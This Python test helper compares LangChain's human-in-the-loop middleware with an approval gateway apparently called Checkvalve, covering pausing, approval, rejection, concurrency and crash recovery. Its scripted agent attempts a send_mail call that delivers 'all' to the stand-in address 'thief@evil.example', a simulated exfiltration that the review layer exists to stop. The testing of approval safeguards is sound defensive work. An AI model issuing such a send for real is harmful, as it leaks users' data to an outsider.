"""The same agent twice: behind LangChain's own human-in-the-loop middleware, and behind Checkvalve.

As a program: ``hitl_world.py FOLDER KIND DIE`` wakes the paused thread of an agent in FOLDER with an approval, over
SQLite. KIND is ``plain`` or ``ours``; with DIE the process kills itself right after the effect.
"""

from __future__ import annotations

import os
import signal
import sqlite3
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # as a program it is in no package

from langchain.agents import create_agent
from langchain.agents.middleware import HumanInTheLoopMiddleware
from langchain_core.messages import AIMessage, ToolMessage
from langgraph.checkpoint.sqlite import SqliteSaver
from langgraph.types import Command

from checkvalve.approvals.records import Proposal, State
from checkvalve.gateway.app import Gateway
from tests.fakes import ScriptedModel, calls
from tests.gateway.world import ASK, World, thread
from tests.waiting import LONG

THIEF = "thief@evil.example"
SEND = calls(("send_mail", {"to": THIEF, "body": "all"}))
SENT = f"send {THIEF}: all"
APPROVE = {"decisions": [{"type": "approve"}]}
REJECT = {"decisions": [{"type": "reject", "message": "no"}]}
THREAD: Any = thread("t")


@dataclass
class Twin:
    """One conversation over one database of checkpoints. ``at`` opens another connection to it."""

    place: World
    at: Callable[[], Any]
    script: list[AIMessage] = field(default_factory=lambda: [SEND])
    guards: dict[str, Any] = field(default_factory=lambda: {"send_mail": True})

    @contextmanager
    def plain(self, model: Any = None, **options: Any) -> Iterator[Any]:
        """Give an agent of its own behind LangChain's middleware, with a connection of its own."""
        middleware = HumanInTheLoopMiddleware(interrupt_on=self.guards, **options)
        with self.at() as saver:
            yield create_agent(
                model or ScriptedModel(script=self.script),
                self.place.tools(),
                middleware=[middleware],
                checkpointer=saver,
            )

    @contextmanager
    def ours(self, model: Any = None, **options: Any) -> Iterator[Any]:
        """Give an agent of its own behind Checkvalve, with connections of its own to checkpoints and approvals."""
        with self.place.open() as gateway, self.at() as saver:
            agent: Any = self.place.agent(gateway, self.script, checkpointer=saver, **options)
            if model is not None:
                raise NotImplementedError
            yield agent

    @property
    def sent(self) -> list[str]:
        """What really happened."""
        return self.place.effects


def start(agent: Any, *, config: Any = None) -> Any:
    """Run until the agent pauses."""
    state = agent.invoke({"messages": [ASK]}, config or THREAD, durability="sync")
    assert state["__interrupt__"], "it did not pause"
    return state


def wake(agent: Any, value: object = None, config: Any = None) -> Any:
    """Resume with what a user interface sends."""
    return agent.invoke(Command(resume=value or APPROVE), config or THREAD, durability="sync")


def last_reply(state: Any) -> str:
    """Return what the model was told last about a call."""
    return str([message for message in state["messages"] if isinstance(message, ToolMessage)][-1].content)


def together(*works: Callable[[], Any]) -> list[Any]:
    """Do all of it at once, each in a thread of its own; returns what each returned or raised."""
    barrier, ends = threading.Barrier(len(works)), [None] * len(works)

    def run(number: int) -> None:
        try:
            barrier.wait(LONG)
            ends[number] = works[number]()
        except Exception as error:  # noqa: BLE001  # told to the test
            ends[number] = error  # type: ignore[call-overload]

    threads = [threading.Thread(target=run, args=(number,)) for number in range(len(works))]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    return ends


def meeting(at: Callable[[], Any], workers: int) -> Callable[[], Any]:
    """Let nobody who opens the checkpoints go on before so many have read where the conversation stands."""
    gate = threading.Barrier(workers)

    @contextmanager
    def opened() -> Iterator[Any]:
        with at() as saver:
            plain, first = saver.get_tuple, [True]

            def get_tuple(config: Any) -> Any:
                found = plain(config)
                if first:
                    first.clear()
                    gate.wait(LONG)
                return found

            saver.get_tuple = get_tuple
            yield saver

    return opened


@contextmanager
def deciding(place: World, name: str = "ann") -> Iterator[tuple[Gateway, Any]]:
    """Give a gateway and a reviewer in it, as somebody at another desk has them."""
    file = place.folder / f"{name}.token"
    with place.open() as gateway:
        if not file.exists():
            file.write_text(gateway.queue.reviewers.add(name))
        yield gateway, gateway.queue.reviewers.authenticate(file.read_text())


def question(gateway: Gateway) -> Proposal:
    """Return the one open question."""
    (found,) = gateway.queue.list([State.PENDING])
    return found


def approve(place: World) -> Proposal:
    """Say yes to the one open question."""
    with deciding(place) as (gateway, reviewer):
        row = question(gateway)
        return gateway.queue.approve(row.id, reviewer, row.digest)


def reject(place: World) -> Proposal:
    """Say no to the one open question."""
    with deciding(place) as (gateway, reviewer):
        return gateway.queue.reject(question(gateway).id, reviewer)


@contextmanager
def sqlite_saver(folder: Path) -> Iterator[SqliteSaver]:
    """Open LangGraph's own saver on the file in ``folder``."""
    with closing(sqlite3.connect(folder / "graph.db", check_same_thread=False, timeout=LONG)) as connection:
        yield SqliteSaver(connection)


class Dying(World):
    """A world whose process dies right after a mail was sent."""

    def happen(self, what: str) -> None:
        super().happen(what)
        if what.startswith("send"):
            os.kill(os.getpid(), signal.SIGKILL)


def main(folder: str, kind: str, die: str) -> None:
    """Be another process."""
    place = (Dying if die == "die" else World)(Path(folder))
    twin = Twin(place, lambda: sqlite_saver(Path(folder)))
    with twin.plain() if kind == "plain" else twin.ours() as agent:
        wake(agent)


if __name__ == "__main__":
    main(*sys.argv[1:])
